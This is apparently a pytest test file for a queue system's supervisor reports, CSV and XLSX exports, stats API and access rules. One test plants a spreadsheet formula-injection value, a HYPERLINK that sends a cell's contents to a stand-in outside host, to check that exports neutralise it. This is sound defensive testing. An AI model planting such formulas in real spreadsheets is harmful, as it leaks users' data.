"""Supervisor pages over HTTP: the report page, its CSV and XLSX, the API agree; who may see them."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import date, timedelta
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from kiosk.extensions import db
from queue_engine.core.models import Ticket, User
from queue_engine.reporting.reports import figure_rows
from tests.web.staff_login import log_in

FIGURE = re.compile(r'<(td|span|strong)[^>]*data-figure="([^"]*)" data-value="([^"]*)"[^>]*>(.*?)</\1>', re.S)
PAGES = [
    "/supervisor",
    "/supervisor/reports",
    "/supervisor/reports.csv",
    "/supervisor/reports.xlsx",
    "/supervisor/reports/handover.xlsx",
    "/supervisor/reports/print",
    "/supervisor/staffing",
]


@pytest.fixture
def busy_day(client, auth, take_ticket, call_next, clock) -> dict[str, Any]:
    """Today: a served and rated visit, a no-show, a cancellation, a transfer served in B, a wait."""
    clerk1, clerk2 = auth("clerk1"), auth("clerk2")

    def act(token: str, action: str, headers: dict[str, str], **body: Any) -> None:
        answer = client.post(f"/api/v1/tickets/{token}/{action}", headers=headers, json=body or None)
        assert answer.status_code in (200, 201), answer.get_json()

    first, second, third, fourth = take_ticket("A"), take_ticket("A"), take_ticket("B"), take_ticket("A")
    clock.advance(minutes=3)
    assert call_next(1).get_json()["ticket"]["token"] == first["token"]
    clock.advance(seconds=40)
    act(first["token"], "start", clerk1)
    clock.advance(minutes=2)
    assert call_next(2).get_json()["ticket"]["token"] == second["token"]
    clock.advance(minutes=2)
    act(second["token"], "no-show", clerk2)
    assert client.post(f"/api/v1/tickets/{third['token']}/cancel").status_code == 200
    clock.advance(minutes=4, seconds=13)
    act(first["token"], "finish", clerk1, outcome="resolved")
    assert client.post(f"/api/v1/tickets/{first['token']}/rating", json={"score": 4}).status_code == 201
    assert call_next(1).get_json()["ticket"]["token"] == fourth["token"]
    clock.advance(minutes=1)
    act(fourth["token"], "transfer", clerk1, service="B")
    clock.advance(minutes=6)
    assert call_next(2).get_json()["ticket"]["token"] == fourth["token"]
    clock.advance(seconds=55)
    act(fourth["token"], "start", clerk2)
    clock.advance(minutes=9, seconds=1)
    act(fourth["token"], "finish", clerk2, outcome="referred")
    assert client.post(f"/api/v1/tickets/{fourth['token']}/rating", json={"score": 2}).status_code == 201
    take_ticket("C")  # still waiting
    return {"day": clock.today()}


@pytest.fixture
def supervisor(app):
    """A browser-like client logged in as the demo supervisor."""
    browser = app.test_client()
    log_in(browser, "supervisor")
    return browser


def normal(value: Any) -> Any:
    """A value from HTML, CSV or XLSX, made comparable: numbers as floats, the rest as text."""
    if value is None or value == "":
        return None
    try:
        return float(value)
    except (TypeError, ValueError):
        return str(value)


def page_figures(text: str) -> dict[str, tuple[Any, str]]:
    figures = {}
    for _tag, key, value, shown in FIGURE.findall(text):
        assert key not in figures, f"{key} shown twice"
        figures[html.unescape(key)] = (normal(html.unescape(value)), html.unescape(shown).strip())
    return figures


def csv_figures(body: bytes) -> dict[str, Any]:
    text = body.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["section", "key", "figure", "value"]
    return {f"{s}|{k}|{f}": normal(v) for s, k, f, v in rows[1:]}


def xlsx_figures(body: bytes) -> dict[str, Any]:
    sheet = load_workbook(io.BytesIO(body), read_only=True)["figures"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("section", "key", "figure", "value")
    return {f"{s}|{k or ''}|{f}": normal(v) for s, k, f, v in rows[1:]}


def shown_as(figure: str, value: Any) -> str:
    """How the page writes a value, to prove the text a person reads is the exported number."""
    if value is None:
        return "—"
    if figure.endswith("_s"):
        seconds = round(value)
        sign, seconds = ("−" if seconds < 0 else ""), abs(seconds)  # an estimate's bias: 4 min short is −4:00
        return sign + (
            f"{seconds // 3600}:{seconds % 3600 // 60:02d}:{seconds % 60:02d}"
            if seconds >= 3600
            else (f"{seconds // 60}:{seconds % 60:02d}")
        )
    if figure.endswith(("share", "_rate")):
        return f"{value * 100:.1f}%"
    if figure.endswith("satisfaction.mean"):
        return f"{value:.2f}"
    if isinstance(value, float) and value.is_integer():
        return f"{int(value):,}"
    return str(value)


@pytest.mark.parametrize(
    "query", ["", "?service=A", "?counter=2", "?clerk=clerk1", "?service=B&clerk=clerk2"]
)
def test_the_page_the_csv_and_the_xlsx_hold_the_same_numbers(supervisor, busy_day, query):
    page = supervisor.get("/supervisor/reports" + query)
    exported_csv = supervisor.get("/supervisor/reports.csv" + query)
    exported_xlsx = supervisor.get("/supervisor/reports.xlsx" + query)

    assert page.status_code == exported_csv.status_code == exported_xlsx.status_code == 200
    assert exported_csv.mimetype == "text/csv"
    assert exported_xlsx.mimetype.endswith("spreadsheetml.sheet")
    on_page = page_figures(page.get_data(as_text=True))
    in_csv = csv_figures(exported_csv.data)
    in_xlsx = xlsx_figures(exported_xlsx.data)
    assert {k: v for k, (v, _shown) in on_page.items()} == in_csv == in_xlsx
    for key, (value, shown) in on_page.items():
        section, _key, figure = key.split("|")
        if section not in ("period", "filter"):
            assert shown == shown_as(figure, value), key


def test_the_api_gives_the_same_numbers_as_the_exports(client, supervisor, auth, busy_day):
    api = client.get("/api/v1/stats/daily", headers=auth("supervisor"))
    exported = csv_figures(supervisor.get("/supervisor/reports.csv").data)

    assert api.status_code == 200
    summary = api.get_json()
    assert summary["date"] == busy_day["day"].isoformat()
    assert {f"{s}|{k}|{f}": normal(v) for s, k, f, v in figure_rows(summary)} == exported
    # The figures the summary always had, read straight from the JSON.
    assert exported["totals||issued"] == summary["totals"]["issued"] == 5
    assert exported["totals||served"] == summary["totals"]["served"] == 2
    assert exported["totals||no_show"] == summary["totals"]["no_show"] == 1
    assert exported["totals||cancelled"] == summary["totals"]["cancelled"] == 1
    assert exported["totals||transferred_out"] == summary["totals"]["transferred_out"] == 1
    assert exported["totals||open"] == summary["totals"]["open"] == 1
    assert exported["totals||service_time.mean_s"] == summary["totals"]["service_time"]["mean_s"]
    assert summary["totals"]["service_time"]["count"] == 2
    assert exported["totals||walk.median_s"] == summary["totals"]["walk"]["median_s"] == (40 + 55) / 2
    assert exported["totals||satisfaction.mean"] == summary["totals"]["satisfaction"]["mean"] == 3.0
    assert [s["code"] for s in summary["services"]] == ["A", "B", "C"]
    assert {p["username"] for p in summary["staff"]} == {"clerk1", "clerk2"}


def test_a_period_and_a_filter_show_in_the_exports(supervisor, busy_day, clock):
    today = busy_day["day"]
    query = f"?from={(today - timedelta(days=2)).isoformat()}&to={today.isoformat()}&service=A"

    rows = csv_figures(supervisor.get("/supervisor/reports.csv" + query).data)

    assert rows["period||days"] == 3
    assert rows["filter||service"] == "A"
    assert rows["totals||issued"] == 3  # A's three tickets, the transferred one included
    assert rows["totals||transferred_out"] == 1
    assert "service|B|issued" not in rows


@pytest.mark.parametrize("path", PAGES)
def test_anonymous_visitors_are_sent_to_log_in(client, path):
    answer = client.get(path)

    assert answer.status_code == 302
    assert answer.headers["Location"].startswith("/login")


@pytest.mark.parametrize("path", PAGES)
def test_clerks_may_not_see_the_supervisor_pages(app, path):
    clerk = app.test_client()
    log_in(clerk, "clerk1")

    assert clerk.get(path).status_code == 403


@pytest.mark.parametrize("user", ["supervisor", "admin"])
@pytest.mark.parametrize("path", PAGES)
def test_supervisors_and_admins_see_them(app, busy_day, path, user):
    browser = app.test_client()
    log_in(browser, user)

    assert browser.get(path).status_code == 200


def test_the_daily_summary_api_refuses_anonymous_and_clerks(client, auth):
    assert client.get("/api/v1/stats/daily").status_code == 401
    assert client.get("/api/v1/stats/daily", headers=auth("clerk1")).status_code == 403
    assert client.get("/api/v1/stats/daily", headers=auth("admin")).status_code == 200


@pytest.mark.parametrize(
    "query",
    [
        "?from=2026-01-05&to=2026-01-01",
        "?from=yesterday",
        "?from=2025-01-01&to=2026-01-05",
        "?service=Z",
        "?counter=99",
        "?counter=one",
        "?clerk=nobody",
    ],
)
def test_a_report_refuses_a_bad_period_or_filter(supervisor, query):
    assert supervisor.get("/supervisor/reports" + query).status_code == 422
    assert supervisor.get("/supervisor/reports.csv" + query).status_code == 422


@pytest.mark.parametrize("query", ["?weekday=7", "?weeks=0", "?weeks=x", "?target=0"])
def test_the_staffing_plan_refuses_bad_numbers(supervisor, query):
    assert supervisor.get("/supervisor/staffing" + query).status_code == 422


def test_the_live_page_is_a_partial_for_htmx_and_changes_after_a_call(
    supervisor, take_ticket, call_next, clock
):
    ticket = take_ticket("A")
    full = supervisor.get("/supervisor")
    partial = supervisor.get("/supervisor", headers={"HX-Request": "true"})

    assert full.status_code == partial.status_code == 200
    assert "HX-Request" in full.headers["Vary"] and "HX-Request" in partial.headers["Vary"]
    assert "<html" in full.get_data(as_text=True) and "data-supervisor" in full.get_data(as_text=True)
    body = partial.get_data(as_text=True)
    assert "<html" not in body and body.lstrip().startswith('<section id="supervisor-live"')
    assert 'hx-trigger="queue-changed from:body, every 30s"' in body
    assert ticket["number"] not in body

    clock.advance(minutes=11)
    call_next(1)
    after = supervisor.get("/supervisor", headers={"HX-Request": "true"}).get_data(as_text=True)

    row = re.search(r'<tr class="state-open" data-counter-id="1">(.*?)</tr>', after, re.S)
    assert row and ticket["number"] in row.group(1)
    take_ticket("A")
    clock.advance(minutes=11)
    late = supervisor.get("/supervisor", headers={"HX-Request": "true"}).get_data(as_text=True)
    assert 'class="service-card level-over" data-service="A"' in late
    assert 'id="wait-alerts"' in late


def test_the_print_page_is_one_day_laid_out_for_a4(supervisor, busy_day):
    answer = supervisor.get("/supervisor/reports/print")

    text = answer.get_data(as_text=True)
    assert answer.status_code == 200
    assert 'class="a4"' in text and "staff-nav" not in text
    assert f"统计日报 {busy_day['day'].isoformat()}" in text
    assert "政务服务大厅" in text and "打印日报" not in text
    assert "制表人" in text and "审核人" in text


def test_the_print_page_of_a_range_is_titled_with_the_hall_and_the_period(supervisor, busy_day):
    today = busy_day["day"]
    first = today - timedelta(days=29)

    text = supervisor.get(f"/supervisor/reports/print?from={first}&to={today}").get_data(as_text=True)

    assert f"统计报表 {first.isoformat()} 至 {today.isoformat()}" in text
    assert f"Report {first.isoformat()} to {today.isoformat()}" in text
    assert '<p class="print-hall" id="print-hall">政务服务大厅 · Service Hall</p>' in text


def _sheet_rows(sheet) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _row_of(rows: list[list[Any]], first: str) -> list[Any]:
    return next(row for row in rows if row and row[0] == first)


def test_the_handover_workbook_has_the_hall_a_sheet_per_part_minutes_charts_and_sign_off(
    supervisor, busy_day
):
    day = busy_day["day"].isoformat()
    figures = csv_figures(supervisor.get("/supervisor/reports.csv").data)

    answer = supervisor.get("/supervisor/reports/handover.xlsx")

    assert answer.status_code == 200 and answer.mimetype.endswith("spreadsheetml.sheet")
    assert "handover-" in answer.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(answer.data))
    assert book.sheetnames == ["概况", "时长", "按小时", "按人员", "满意度"]  # no bookings: no 预约 sheet
    for sheet in book.worksheets:
        rows = _sheet_rows(sheet)
        assert rows[0][0] == "政务服务大厅"
        assert rows[1][0] == f"统计日报 {day} · {sheet.title}"
        assert _row_of(rows, "制表人：")[2] == "审核人："
    overview = _sheet_rows(book["概况"])
    assert _row_of(overview, "指标")[:2] == ["指标", "数值"]
    assert _row_of(overview, "取号")[1] == figures["totals||issued"] == 5
    times = _sheet_rows(book["时长"])
    assert _row_of(times, "指标")[:5] == ["指标", "笔数", "平均（分钟）", "中位数（分钟）", "90%分位（分钟）"]
    wait = _row_of(times, "等候（取号→叫号）")
    assert wait[2] == round(figures["totals||wait.mean_s"] / 60, 1) and wait[2] < 60
    assert _row_of(times, "办理（开始→办结）")[2] == round(figures["totals||service_time.mean_s"] / 60, 1)
    assert book["时长"].cell(times.index(wait) + 1, 3).number_format == "0.0"
    assert [row[:3] for row in _sheet_rows(book["按小时"]) if row[0] == "时段"] == [["时段", "取号", "办结"]]
    assert book["按小时"]._charts and book["满意度"]._charts and book["概况"]._charts
    clerks = _sheet_rows(book["按人员"])
    assert _row_of(clerks, "经办人")[:2] == ["经办人", "办件"]
    satisfaction = _sheet_rows(book["满意度"])
    assert _row_of(satisfaction, "4 满意")[1] == 1 and _row_of(satisfaction, "2 不满意")[1] == 1
    assert _row_of(satisfaction, "差评数")[1] == 1 and _row_of(satisfaction, "好评（4-5分）")[1] == 1
    assert _row_of(satisfaction, "满意率")[1] == 0.5


def test_the_handover_workbook_in_english_and_its_text_cells_are_formula_safe(app, supervisor, busy_day):
    with app.app_context():
        clerk = db.session.scalars(select(User).where(User.username == "clerk1")).one()
        clerk.display_name = '=HYPERLINK("http://x.example/?"&A1,"clerk")'
        db.session.commit()

    book = load_workbook(io.BytesIO(supervisor.get("/supervisor/reports/handover.xlsx?lang=en").data))

    assert book.sheetnames == ["Overview", "Times", "By hour", "By clerk", "Satisfaction"]
    overview = _sheet_rows(book["Overview"])
    assert overview[0][0] == "Service Hall" and overview[1][0].startswith("Daily report ")
    assert _row_of(overview, "Prepared by:")[2] == "Approved by:"
    sheet = book["By clerk"]
    cell = next(c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYPERLINK"))
    assert cell.data_type == "s" and cell.quotePrefix


def test_the_reports_page_links_the_handover_report_in_both_languages(supervisor, busy_day):
    text = supervisor.get("/supervisor/reports?from=2026-11-01").get_data(as_text=True)

    assert 'id="export-handover" href="/supervisor/reports/handover.xlsx?from=2026-11-01"' in text
    assert "统计报表（上报）" in text and "Report to hand over" in text
    assert "lang=en" in text.split('id="export-handover-en"')[1].split(">")[0]


def test_the_staffing_plan_page_shows_needed_and_open_counters(supervisor, busy_day, clock):
    clock.advance(days=7)
    answer = supervisor.get(f"/supervisor/staffing?weekday={busy_day['day'].weekday()}&weeks=2&target=10")

    text = answer.get_data(as_text=True)
    assert answer.status_code == 200
    assert 'id="plan"' in text and '<svg class="chart"' in text
    row = re.search(r'<tr class="[^"]*" data-hour="9">(.*?)</tr>', text, re.S)
    assert row, "the hour of the busy day is planned"
    # Five arrivals in that hour, 0.78 Erlang: one counter would give a mean wait of
    # rho / (1 - rho) * h, about half an hour, over the 10 minutes; two give under two minutes.
    assert '<td class="needed">2</td>' in row.group(1)


def test_the_simulate_command_refuses_a_hall_in_use_and_writes_nothing(app, runner, take_ticket):
    take_ticket("A")  # a visitor is waiting in the hall right now

    result = runner.invoke(args=["simulate", "--days", "3", "--end", "2026-01-02", "--seed", "3"])

    assert result.exit_code != 0
    assert "hall in use" in result.output and "1 ticket(s) not made by the simulator" in result.output
    with app.app_context():
        assert [t.status for t in db.session.scalars(select(Ticket))] == ["waiting"]


def test_the_simulate_command_makes_past_days_and_reports_read_them(app, runner):
    result = runner.invoke(
        args=["simulate", "--days", "2", "--end", "2026-01-02", "--seed", "3", "--load", "0.3"]
    )

    assert result.exit_code == 0, result.output
    assert "Simulated 2 working day(s)" in result.output
    rebuilt = runner.invoke(args=["reports-rebuild"])
    assert rebuilt.exit_code == 0, rebuilt.output
    browser = app.test_client()
    log_in(browser, "supervisor")
    rows = csv_figures(browser.get("/supervisor/reports.csv?from=2026-01-01&to=2026-01-02").data)
    issued = int(result.output.split("issued ")[1].split(",")[0])
    assert rows["totals||issued"] == issued > 0
    assert runner.invoke(args=["simulate", "--end", "2026-13-01"]).exit_code != 0
    assert date(2026, 1, 2).weekday() == 4  # Thursday and Friday: both working days
